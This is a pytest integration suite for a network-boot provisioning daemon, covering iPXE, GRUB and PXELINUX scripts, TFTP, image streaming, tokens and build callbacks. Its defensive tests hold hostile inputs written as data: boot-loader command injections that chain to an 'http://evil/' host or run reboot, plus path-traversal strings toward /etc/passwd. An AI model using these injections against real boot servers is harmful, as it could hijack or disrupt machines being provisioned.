"""HTTP boot through a real server, a real database, the templates that are shipped and real files."""

from __future__ import annotations

import asyncio
import hashlib
import io
import json
import logging
import re
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio
import structlog
import uvloop
import yaml
from aiohttp import ClientSession, web
from sqlalchemy import update
from sqlmodel import col

from provisiond.boot import tickets
from provisiond.boot.image_source import ImageSource
from provisiond.boot.shares import Limits, Shares
from provisiond.boot.stream import send_image
from provisiond.inventory.secrets import SecretBox
from provisiond.inventory.store import CATALOGUE_CHANGED, Store
from provisiond.inventory.tables import Image, Medium, OperatingSystem, Subnet, utcnow
from provisiond.lifecycle.path import PATH
from provisiond.lifecycle.table import State
from provisiond.media.blockmap import MIB, used_extents
from tests.boot_world import (
    INITRD,
    KERNEL,
    RAMDISK_KERNEL,
    Built,
    Served,
    boot_world,
    used_bytes,
    when,
    write_image,
)

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKy8B7qkAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"


@pytest_asyncio.fixture
async def served(sqlite_store: Store, box: SecretBox, tmp_path: Path) -> AsyncIterator[Served]:
    """A boot server on SQLite."""
    async with boot_world(sqlite_store, box, tmp_path) as running:
        yield running


async def scripts_of(served: Served, host: Built) -> dict[str, str]:
    """What every protocol and loader tells this machine to boot, by way of asking."""
    dashed = host.mac.replace(":", "-")
    hexed = "".join(f"{int(part):02X}" for part in host.ip.split("."))
    answers = {}
    for path in (
        f"/boot/ipxe?mac={host.mac}&arch=x86_64&platform=pcbios",
        f"/boot/ipxe/{dashed}",
        f"/boot/ipxe?uuid={host.id}",
        f"/boot/grub.cfg?mac={host.mac}",
        f"/boot/pxelinux.cfg?mac={host.mac}",
    ):
        status, text = await served.get(path)
        assert status == 200, (path, text)
        answers[path] = text
    for path in (
        "grub/grub.cfg", "/grub.cfg", f"grub/grub.cfg-01-{dashed}", f"grub.cfg-{host.mac}", f"/grub/grub.cfg-{hexed}",
        f"pxelinux.cfg/{host.id}", f"pxelinux.cfg/01-{dashed}", f"pxelinux.cfg/{hexed}", "pxelinux.cfg/default",
    ):  # fmt: skip
        content = await served.tftp(path, host.ip)
        assert content is not None, path
        answers[f"tftp:{path}"] = content.decode()
    return answers


def boots(script: str) -> str:
    """What a script boots: local, installer or image."""
    if "preseed/url" in script or "url=http" in script.replace("provisiond.url=", ""):
        return "installer"
    if "provisiond.url=" in script:
        return "image"
    assert "sanboot" in script or "localboot" in script or "chainloader" in script, script
    return "local"


# --- one decision on every protocol -----------------------------------------------------------------


@pytest.mark.parametrize("method", ["image", "installer"])
async def test_every_protocol_agrees_at_every_step(served: Served, method: str) -> None:
    """For each state and step of the path, all loaders over HTTP and TFTP are told the same; only building's boot and install build."""
    host = await served.host("web01", method=method)
    for state, steps in PATH.items():
        if state is State.DISCOVERED:
            continue
        for step in ["", *(s.name for s in steps)]:
            await host.set(state=str(state), step=step)
            expected = method if state is State.BUILDING and step in {"boot", "install"} else "local"
            answers = {path: boots(text) for path, text in (await scripts_of(served, host)).items()}
            assert set(answers.values()) == {expected}, (state, step, answers)


@pytest.mark.parametrize("method", ["image", "installer"])
async def test_after_built_everything_says_local_at_once(served: Served, method: str) -> None:
    """The very next answer after `built` is local disk, by HTTP and TFTP, while the host is still at step install."""
    host = await served.host("web01", method=method)
    assert {boots(t) for t in (await scripts_of(served, host)).values()} == {method}
    assert await served.tftp(f"boot/{host.token}/kernel") is not None
    assert await served.post(f"{host.base}/built") == (200, "ok\n")
    assert {boots(t) for t in (await scripts_of(served, host)).values()} == {"local"}
    for loader in ("ipxe", "grub", "pxelinux"):
        assert boots((await served.get(f"{host.base}/{loader}"))[1]) == "local"
    for file in ("kernel", "initrd", "image", "blockmap", "unattended"):
        assert (await served.get(f"{host.base}/{file}"))[0] == 410, file
    assert await served.tftp(f"boot/{host.token}/kernel") is None
    first_boot = 200 if method == "image" else 404  # Debian's installer leaves no cloud-init behind
    assert (await served.get(f"{host.base}/user-data"))[0] == first_boot


async def test_unknown_machines(served: Served) -> None:
    """A machine nobody knows boots its disk, or the waiting ramdisk where its subnet discovers; its MAC carries no token."""
    status, text = await served.get("/boot/ipxe?mac=52:54:00:ff:ff:ff")
    assert status == 200 and boots(text) == "local"
    assert boots((await served.tftp("pxelinux.cfg/01-52-54-00-ff-ff-ff") or b"").decode()) == "local"
    async with served.world.store.write() as session:
        await session.execute(update(Subnet).values(unknown="discover", cidr="127.0.0.0/8"))
    _, text = await served.get("/boot/ipxe?mac=52:54:00:ff:ff:ff")
    assert f"provisiond.url={served.world.boot_url} " in text and len(ticket_in(text)) == tickets.LENGTH
    assert f"{served.world.boot_url}/boot/ramdisk/kernel" in text
    for asked in ("grub/grub.cfg-01-52-54-00-ff-ff-ff", "pxelinux.cfg/01-52-54-00-ff-ff-ff"):
        assert ticket_in((await served.tftp(asked, "127.0.0.9") or b"").decode())
    assert await served.tftp("boot/ramdisk/kernel") == RAMDISK_KERNEL
    assert (await served.get("/boot/ramdisk/kernel"))[1].encode() == RAMDISK_KERNEL


async def test_menu(served: Served) -> None:
    """Where the subnet says menu, whoever stands before an unknown machine chooses; kexec is a choice already."""
    async with served.world.store.write() as session:
        await session.execute(update(Subnet).values(unknown="menu", cidr="127.0.0.0/8"))
    for asked, both in (
        ("ipxe", ("choose --default local", "sanboot", "initrd --name")),
        ("grub.cfg", ("menuentry", "chainloader", "initrd ")),
        ("pxelinux.cfg", ("default local", "localboot 0", "label discover")),
        ("kexec", ("kexec --load",)),
    ):
        status, text = await served.get(f"/boot/{asked}?mac=52:54:00:ff:ff:ff")
        assert status == 200 and all(part in text for part in both), (asked, text)
        assert len(ticket_in(text)) == tickets.LENGTH
    assert (await (await served.agent("52:54:00:ff:ff:ff")).plan())["action"] == "wait"


def ticket_in(script: str) -> str:
    """The ticket among the kernel's arguments."""
    found = re.search(r"provisiond\.ticket=([A-Za-z0-9_-]*)", script)
    return found[1] if found else ""


async def test_entry_scripts(served: Served) -> None:
    """Without a MAC the machine is told to ask again with it, and a failing script never leads back here."""
    for text in ((await served.get("/boot/ipxe"))[1], (await served.tftp("autoexec.ipxe") or b"").decode()):
        assert text.startswith("#!ipxe\n")
        assert f"chain --replace --autofree {served.world.boot_url}/boot/ipxe/${{netX/mac:hexhyp}}" in text
    assert b"grub.cfg-${net_default_mac}" in (await served.tftp("grub/grub.cfg") or b"")


@pytest.mark.parametrize(
    "path", ["/boot/ipxe?mac=nonsense", "/boot/ipxe/zz-zz", "/boot/grub.cfg?mac=52:54:00"]
)
async def test_wrong_mac(served: Served, path: str) -> None:
    """A MAC that is none is told so in one sentence."""
    status, text = await served.get(path)
    assert status == 400 and "hex digits" in text


# --- scripts ---------------------------------------------------------------------------------------------


async def test_ipxe_script_of_an_image_build(served: Served) -> None:
    """The whole script, as iPXE gets it."""
    host = await served.host("web01")
    base = f"{served.world.boot_url}{host.base}"
    _, text = await served.get(f"/boot/ipxe?mac={host.mac}")
    lines = text.splitlines()
    assert lines[0] == "#!ipxe"
    given = f"provisiond.url={served.world.boot_url} provisiond.ticket={ticket_in(text)} provisiond.mac={host.mac}"
    assert f"kernel {base}/kernel initrd=initrd.img {given}" in text and len(ticket_in(text)) == 80
    assert f"initrd --name initrd.img {base}/initrd || goto wait" in lines


async def test_kernels_over_http(served: Served) -> None:
    """Whole, in ranges, and not again when unchanged; the installer's while it installs, the ramdisk's for an image."""
    host, image = await served.host("web01", method="installer"), await served.host("web02")
    url = f"{served.world.boot_url}{host.base}/kernel"
    async with served.client.get(url) as answer:
        assert await answer.read() == KERNEL
        etag = answer.headers["ETag"]
    async with served.client.get(url, headers={"Range": "bytes=7-13"}) as answer:
        assert (answer.status, await answer.read()) == (206, KERNEL[7:14])
    async with served.client.get(url, headers={"If-None-Match": etag}) as answer:
        assert answer.status == 304
    async with served.client.head(url) as answer:
        assert answer.content_length == len(KERNEL)
    assert (await served.get(f"{host.base}/initrd"))[1].encode() == INITRD
    assert (await served.get(f"{image.base}/kernel"))[1].encode() == RAMDISK_KERNEL
    assert await served.tftp(f"/boot/{host.token}/initrd") == INITRD


async def test_preseed_and_seed(served: Served) -> None:
    """The unattended file and the NoCloud files name this build's callbacks."""
    host = await served.host("web01", method="installer")
    base = f"{served.world.boot_url}{host.base}"
    for name in ("unattended", "preseed"):
        status, text = await served.get(f"{host.base}/{name}")
        assert status == 200 and f"{base}/built" in text
    other = await served.host("web02")
    status, text = await served.get(f"{other.base}/seed/user-data")
    assert status == 200 and text.startswith("#cloud-config") and "phone-home" in text
    assert (await served.get(f"{other.base}/meta-data"))[1].startswith(
        f'instance-id: "{other.deployment_id}"'
    )
    for name in ("network-config", "vendor-data"):
        assert (await served.get(f"{other.base}/{name}"))[0] == 200
    assert (await served.get(f"{other.base}/preseed"))[0] == 410


async def test_ubuntu_finds_its_seed_and_its_iso(served: Served) -> None:
    """The live system is booted with the seed's URL and the ISO's; both are there for it alone, and gone when it is built."""
    system = OperatingSystem(name="ubuntu-24.04", family="ubuntu", version="24.04")
    content = b"iso" * 100_000
    medium = Medium(
        name="ubuntu-24.04", operating_system_id=system.id, source="x", mirror="http://archive.ubuntu.com/ubuntu", ready=True,
        files={n: {"path": f"ubuntu-24.04/{n}-0"} for n in ("kernel", "initrd", "iso")},
    )  # fmt: skip
    folder = served.world.settings.state.media_dir / "ubuntu-24.04"
    folder.mkdir(parents=True)
    for name, text in (("kernel", b"k"), ("initrd", b"i"), ("iso", content)):
        (folder / f"{name}-0").write_bytes(text)
    async with served.world.store.write(CATALOGUE_CHANGED) as session:
        session.add(system)
        await session.flush()
        session.add(medium)
    served.rows["medium"] = medium.id
    host = await served.host("web01", method="installer", operating_system_id=system.id)
    scripts = await scripts_of(served, host)
    base = f"{served.world.boot_url}{host.base}"
    for name, text in scripts.items():
        seed, iso = f"ds=nocloud-net;s={base}/seed/", f"url={base}/installer.iso"
        assert seed in text and iso in text and "cloud-config-url=/dev/null" in text, name
        assert "grub" not in name or f"'{seed}'" in text  # a bare ';' would end GRUB's command
    status, user_data = await served.get(f"{host.base}/seed/user-data")
    assert status == 200 and yaml.safe_load(user_data)["autoinstall"]["version"] == 1
    meta_data = yaml.safe_load((await served.get(f"{host.base}/seed/meta-data"))[1])
    assert meta_data == {"instance-id": host.deployment_id, "local-hostname": "web01"}
    for optional in ("vendor-data", "network-config"):
        assert (await served.get(f"{host.base}/seed/{optional}"))[0] == 404
    assert (await served.get(f"{host.base}/unattended")) == (200, user_data)
    async with served.client.get(f"{base}/installer.iso", headers={"Range": "bytes=3-5"}) as answer:
        assert (answer.status, await answer.read()) == (206, b"iso")
    async with served.client.get(f"{base}/installer.iso") as answer:
        assert await answer.read() == content
    other = await served.host("web02")  # an image
    assert (await served.get(f"{other.base}/installer.iso"))[0] == 410
    (folder / "iso-0").unlink()
    assert (await served.get(f"{host.base}/installer.iso"))[0] == 503
    assert await served.post(f"{host.base}/built") == (200, "ok\n")
    assert (await served.get(f"{host.base}/installer.iso"))[0] == 410


# --- the image ---------------------------------------------------------------------------------------------


async def test_block_map(served: Served) -> None:
    """The map of an image says where its used blocks belong; it is there while the image is written."""
    host = await served.host("web01")
    status, text = await served.get(f"{host.base}/blockmap")
    assert status == 200
    expected = {"size_mib": 12, "extents": [[0, 2], [5, 1], [11, 1]], "frame_mib": 8, "frames": []}
    assert json.loads(text) == expected


RANGES = [
    (None, 0, 4 * MIB),
    ("bytes=0-", 0, 4 * MIB),
    (f"bytes={2 * MIB}-", 2 * MIB, 4 * MIB),
    (f"bytes={2 * MIB - 3}-{3 * MIB + 4}", 2 * MIB - 3, 3 * MIB + 5),
    ("bytes=-5", 4 * MIB - 5, 4 * MIB),
    ("bytes=0-1,5-6", 0, 4 * MIB),
    ("lines=1-2", 0, 4 * MIB),
]


async def test_image_stream(served: Served) -> None:
    """The used blocks, and nothing else, whole or from where a transfer broke off."""
    host = await served.host("web01")
    for header, start, end in RANGES:
        headers = {"Range": header} if header else {}
        async with served.client.get(f"{served.world.boot_url}{host.base}/image", headers=headers) as answer:
            content = await answer.read()
            whole = (start, end) == (0, 4 * MIB) and header != "bytes=0-"
            assert answer.status == (200 if whole else 206), header
            assert answer.content_length == len(content)
            if not whole:
                assert answer.headers["Content-Range"] == f"bytes {start}-{end - 1}/{4 * MIB}"
        assert content == used_bytes(served.image)[start:end], header
    async with served.client.head(f"{served.world.boot_url}{host.base}/image") as answer:
        assert answer.content_length == 4 * MIB


async def test_image_range_past_the_end(served: Served) -> None:
    """A range that begins past the end is 416 with the length."""
    host = await served.host("web01")
    async with served.client.get(
        f"{served.world.boot_url}{host.base}/image", headers={"Range": f"bytes={4 * MIB}-"}
    ) as answer:
        assert answer.status == 416
        assert answer.headers["Content-Range"] == f"bytes */{4 * MIB}"


async def test_image_transfer_survives_the_next_request(served: Served) -> None:
    """Several images and scripts over the same connection follow each other without confusion."""
    host = await served.host("web01")
    for _ in range(3):
        async with served.client.get(f"{served.world.boot_url}{host.base}/image") as answer:
            assert (
                hashlib.sha256(await answer.read()).digest()
                == hashlib.sha256(used_bytes(served.image)).digest()
            )
        assert (await served.get(f"{host.base}/blockmap"))[0] == 200


def test_image_stream_under_uvloop(tmp_path: Path) -> None:
    """The same bytes from the daemon's own event loop, which has no sendfile of its own."""
    raw = write_image(tmp_path / "images")
    runs = [(first * MIB, count * MIB) for first, count in used_extents(raw)]
    source = ImageSource(raw, "raw", runs, "digest", None, 12 * MIB)

    async def scenario() -> None:
        async def handle(request: web.Request) -> web.StreamResponse:
            return await send_image(request, source, Shares(), Limits("lab", 0, 0), "web01")

        app = web.Application()
        app.router.add_get("/image", handle)
        runner = web.AppRunner(app)
        await runner.setup()
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        url = f"http://127.0.0.1:{runner.addresses[0][1]}/image"
        async with ClientSession() as client:
            for start in (0, MIB + 7):
                async with client.get(url, headers={"Range": f"bytes={start}-"}) as answer:
                    assert await answer.read() == used_bytes(raw)[start:]
        await runner.cleanup()

    uvloop.run(scenario())


# --- tokens ----------------------------------------------------------------------------------------------------


async def test_tokens(served: Served) -> None:
    """Unknown and expired: 403. Of a build that is over or replaced: 410. Always one sentence, never a traceback."""
    host = await served.host("web01")
    status, text = await served.get(f"/boot/{'A' * 43}/blockmap")
    assert status == 403 and text.count("\n") == 1
    await host.set_deployment(token_expires=when(-1))
    assert (await served.get(f"{host.base}/blockmap"))[0] == 403
    await host.set_deployment(token_expires=when(5), ended_at=utcnow())
    assert (await served.get(f"{host.base}/blockmap"))[0] == 410
    assert (await served.post(f"{host.base}/built"))[0] == 410
    await host.set_deployment(ended_at=None)
    await host.set(deployment_id=None)
    assert (await served.get(f"{host.base}/blockmap"))[0] == 410
    assert (await served.get("/boot/short/blockmap"))[0] == 404
    assert (await served.get("/boot/../etc/passwd"))[0] == 404


async def test_signs_of_life_renew_the_token(served: Served) -> None:
    """A slow install that shows signs of life keeps its token; it is written once a minute, not at each request."""
    host = await served.host("web01")
    await host.set_deployment(token_expires=when(1))
    await served.post(f"{host.base}/progress", {"percent": "1", "text": "x"})
    first = (await host.deployment()).token_expires
    assert first is not None and first > when(100)
    await served.get(f"{host.base}/blockmap")
    assert (await host.deployment()).token_expires == first


async def test_token_is_given_only_while_it_installs(served: Served) -> None:
    """Whoever asks by MAC gets the token only at the steps that boot, and not once the boots are used up."""
    host = await served.host("web01", step="reserve")
    assert all(host.token not in text for text in (await scripts_of(served, host)).values())
    await host.set(step="install")
    assert all(host.token in text for text in (await scripts_of(served, host)).values())
    for _ in range(3):
        host.boots_again()
        await served.get(f"/boot/ipxe?mac={host.mac}")
    host.boots_again()
    assert all(host.token not in text for text in (await scripts_of(served, host)).values())


async def test_no_token_in_the_log(served: Served) -> None:
    """The access log shows the path without the token, whatever was asked."""
    host = await served.host("web01")
    with structlog.testing.capture_logs() as lines:
        for path in ("ipxe", "plan", "nothing", "seed/user-data", "image"):
            await served.get(f"{host.base}/{path}")
        await served.get(host.base)
        await served.post(f"{host.base}/progress", {"percent": "x"})
        await asyncio.sleep(0.05)
    said = [line for line in lines if line["event"] == "boot.request"]
    assert len(said) == 7
    assert said[0]["path"] == "/boot/TOKEN/ipxe"
    assert host.token not in json.dumps(lines, default=str)


# --- boots ------------------------------------------------------------------------------------------------------


async def test_boot_loop(served: Served) -> None:
    """The third time a build asks for its installer it is a loop: the build fails with a clear sentence, and the disk is booted."""
    host = await served.host("web01", method="installer")
    seen = []
    for _ in range(4):
        seen.append(boots((await served.get(f"/boot/ipxe?mac={host.mac}"))[1]))
        host.boots_again()
    assert seen == ["installer", "installer", "local", "local"]
    deployment = await host.deployment()
    assert deployment.failed_at is not None and "3 times" in deployment.failure
    assert (await host.events()).count("boot.asked") == 3
    assert "boot.loop" in await host.events()
    assert {boots(t) for t in (await scripts_of(served, host)).values()} == {"local"}


async def test_one_boot_is_counted_once(served: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever a loader asks twice within one boot, over any protocol and at once, is one boot."""
    monkeypatch.setattr("provisiond.boot.machines.SAME_BOOT_SECONDS", 300.0)  # this machine may be slow
    host = await served.host("web01")
    await asyncio.gather(*(served.get(f"/boot/ipxe?mac={host.mac}") for _ in range(5)))
    await scripts_of(served, host)
    await served.get(f"{host.base}/ipxe")
    assert (await host.deployment()).boots == 1


async def test_the_whole_build_on_both_databases(store: Store, box: SecretBox, tmp_path: Path) -> None:
    """Boot, progress, built, phone-home, the end; a loop; a discovery: the same on SQLite and PostgreSQL."""
    async with boot_world(store, box, tmp_path) as served:
        host = await served.host("web01")
        assert boots((await served.get(f"/boot/ipxe?mac={host.mac}"))[1]) == "image"
        for path, body in (
            ("progress", {"percent": "50", "text": "half"}),
            ("built", {}),
            ("phone-home", {"pub_key_ed25519": KEY}),
        ):
            assert await served.post(f"{host.base}/{path}", body) == (200, "ok\n")
        assert await host.events() == [
            "boot.asked",
            "callback.progress",
            "callback.built",
            "callback.phone-home",
        ]
        await host.set_deployment(ended_at=utcnow())
        assert (await served.get(f"{host.base}/user-data"))[0] == 410
        loop = await served.host("web02")
        for _ in range(3):
            loop.boots_again()
            await served.get(f"/boot/ipxe?mac={loop.mac}")
        assert "3 times" in (await loop.deployment()).failure


# --- hostile values ---------------------------------------------------------------------------------------------

HOSTILE = [
    "x\nimgfree\nchain http://evil/",
    "x\rchain http://evil/",
    "x || shell",
    "${cmdline}",
    "$(reboot)",
    "'; reboot; '",
    '"; reboot; "',
    "a b",
    "x\u2028chain http://evil/",
    "\\\nlinux evil",
]


def commands(texts: dict[str, str]) -> set[str]:
    """The first word of every line."""
    return {line.split()[0] for text in texts.values() for line in text.splitlines() if line.strip()}


@pytest.mark.parametrize("method", ["image", "installer"])
async def test_hostile_kernel_arguments(served: Served, method: str) -> None:
    """A kernel argument never becomes a command of a loader: it is one quoted word, or the build fails and says why."""
    good, idle = await served.host("good", method=method), await served.host("idle", state="active")
    clean = (
        commands(await scripts_of(served, good))
        | commands(await scripts_of(served, idle))
        | {"sleep", "timeout", "message"}
    )
    for number, value in enumerate(HOSTILE):
        host = await served.host(f"web{number:02}", method=method, parameters={"kernel_arguments": [value]})
        for path, text in (await scripts_of(served, host)).items():
            assert commands({path: text}) <= clean, (path, text)
            assert "evil" not in text and "|| shell" not in text
            if value in text and host.token in text:  # only GRUB knows quotes
                assert "grub" in path and f" '{value}'" in text
        if method == "image":
            assert (await (await host.agent()).plan())["action"] == "wait"
        assert (await host.deployment()).failed_at is not None


@pytest.mark.parametrize(
    "columns",
    [
        {"storage": {"disk": "/dev/vda\nimage http://evil/"}},
        {"storage": {"encrypt": True}},
        {"parameters": {"finish": "no"}},
        {"parameters": {"kernel_arguments": ["a\nb"]}},
    ],
)
async def test_hostile_plan(served: Served, columns: dict[str, object]) -> None:
    """What cannot stand in a plan fails the build, with the reason; the ramdisk is told to wait."""
    host = await served.host("web01", **columns)
    assert (await (await host.agent()).plan())["action"] == "wait"
    assert "web01" in (await host.deployment()).failure


# --- what is missing ------------------------------------------------------------------------------------------


async def test_missing_files_fail_the_build(served: Served) -> None:
    """No ramdisk, a medium that is not ready, an image without its map: the build fails at once and says what to do."""
    (served.world.settings.boot.ramdisk_dir / "vmlinuz").unlink()
    ramdisk = await served.host("web01")
    _, text = await served.get(f"/boot/ipxe?mac={ramdisk.mac}")
    assert "exit 1" in text and "kernel" not in text.replace("vmlinuz", "")
    assert "pxe/ramdisk/build" in (await ramdisk.deployment()).failure
    async with served.world.store.write(CATALOGUE_CHANGED) as session:
        await session.execute(update(Medium).values(ready=False))
        await session.execute(update(Image).where(col(Image.name) == "debian").values(path="gone.raw"))
    medium, image = await served.host("web02", method="installer"), await served.host("web03")
    await served.get(f"/boot/grub.cfg?mac={medium.mac}")
    assert "media add" in (await medium.deployment()).failure
    assert (await (await image.agent()).plan())["action"] == "wait"
    assert "image add" in (await image.deployment()).failure


# --- callbacks --------------------------------------------------------------------------------------------------


async def test_progress(served: Served) -> None:
    """Percent and text land in the deployment and the history; nonsense is told so."""
    host = await served.host("web01")
    assert await served.post(f"{host.base}/progress", {"percent": "40", "text": "writing\n\x1b[31mdisk"}) == (
        200,
        "ok\n",
    )
    deployment = await host.deployment()
    assert (deployment.progress, deployment.progress_text) == (40, "writing ?[31mdisk")
    assert (
        await served.post(
            f"{host.base}/progress", json.dumps({"percent": 50}), headers={"Content-Type": "application/json"}
        )
    )[0] == 200
    for body in ({"percent": "x"}, {"percent": "-1"}, {}):
        status, text = await served.post(f"{host.base}/progress", body)
        assert status == 400 and "percent" in text
    assert (await host.events()).count("callback.progress") == 2


async def test_failed_with_its_log(served: Served) -> None:
    """The message and the last 64 KiB of the log are kept, once; a retry of the same report changes nothing."""
    host = await served.host("web01")
    body = {"message": "no disk", "log": "a" * 100_000 + "END"}
    assert (await served.post(f"{host.base}/failed", body))[0] == 200
    assert (await served.post(f"{host.base}/failed", {"message": "again"}))[0] == 200
    deployment = await host.deployment()
    assert deployment.failure == "no disk"
    assert len(deployment.log_tail) == 65536 and deployment.log_tail.endswith("END")
    assert (await served.post(f"{host.base}/failed", {"log": "x" * (2 << 20)}))[0] == 413


async def test_phone_home_as_cloud_init_does(served: Served) -> None:
    """cloud-init's form gives the host keys without comments; what is no key is dropped; twice is once."""
    host = await served.host("web01", state="provisioned", step="first-boot")
    form = {
        "hostname": "web01", "instance_id": "x", "fqdn": "web01.example.test", "pub_key_rsa": "N/A",
        "pub_key_ed25519": f"{KEY} root@web01\n", "pub_key_ecdsa": "ssh-ed25519 not\nbase64",
    }  # fmt: skip
    for _ in range(2):
        assert await served.post(f"{host.base}/phone-home", form) == (200, "ok\n")
    deployment = await host.deployment()
    assert deployment.host_keys == [KEY]
    assert deployment.phoned_home_at is not None
    assert (await host.events()).count("callback.phone-home") == 1


async def test_phone_home_as_json(served: Served) -> None:
    """Our own first-boot scripts send JSON; deep nesting and wrong shapes are told so, and break nothing."""
    host = await served.host("web01", state="provisioned", step="first-boot")
    headers = {"Content-Type": "application/json"}
    for body in ("[" * 100_000, "[1]", "{"):
        assert (await served.post(f"{host.base}/phone-home", body, headers=headers))[0] == 400
    assert (
        await served.post(
            f"{host.base}/phone-home", json.dumps({"host_keys": [KEY, "junk"]}), headers=headers
        )
    )[0] == 200
    assert (await host.deployment()).host_keys == [KEY]


async def test_too_many_fields(served: Served) -> None:
    """A form of thousands of fields is refused before it costs anything."""
    host = await served.host("web01")
    assert (await served.post(f"{host.base}/progress", "&".join(f"a{i}=1" for i in range(5000))))[0] == 400


async def test_binary_body(served: Served) -> None:
    """Bytes that are no text are no reason for a traceback."""
    host = await served.host("web01")
    assert (await served.post(f"{host.base}/failed", io.BytesIO(b"message=\xff\xfe\x00%00%ff&log=\x80")))[
        0
    ] == 200
    assert "\x00" not in (await host.deployment()).failure


# --- loaders ------------------------------------------------------------------------------------------------------


async def test_loaders_over_both_protocols(served: Served) -> None:
    """The same program by TFTP and HTTP; what is not there says which package has it."""
    assert await served.tftp("ipxe.efi") == b"ipxe.efi"
    async with served.client.get(f"{served.world.boot_url}/boot/loader/ipxe.efi") as answer:
        assert (await answer.read(), answer.content_type) == (b"ipxe.efi", "application/efi")
    async with served.client.head(f"{served.world.boot_url}/boot/loader/ipxe.efi") as answer:
        assert answer.content_length == len(b"ipxe.efi")
    status, text = await served.get("/boot/loader/snponly-arm64.efi")
    assert status == 404 and "package ipxe" in text
    assert "ipxe.efi" in (await served.get("/boot/loader/"))[1]
    assert (await served.get("/boot/loader/..%2f..%2fetc%2fpasswd"))[0] == 404


NOWHERE = [
    "", "/", "..", "../../etc/passwd", "/etc/passwd", "grub/../../etc/passwd", "pxelinux.cfg/", "pxelinux.cfg/C000", "x\x00y",
    "boot/x/kernel", f"boot/{'A' * 43}/kernel", "x" * 5000, "grub/x86_64-efi/command.lst", "grub.cfg-", "\udcff",
    "pxelinux.cfg/ffffffff",
]  # fmt: skip


async def test_tftp_paths_that_lead_nowhere(served: Served) -> None:
    """What is not there is not there; no path reaches the disk."""
    for path in NOWHERE:
        assert await served.tftp(path) is None, path


async def test_internal_errors_are_plain(
    served: Served, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """When the daemon itself breaks, the machine gets a sentence and the log has the reason."""

    async def broken(*_: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr(served.machines, "by_mac", broken)
    with caplog.at_level(logging.ERROR):
        status, text = await served.get("/boot/ipxe?mac=52:54:00:00:00:01")
    assert status == 500 and "boom" not in text and "Traceback" not in text
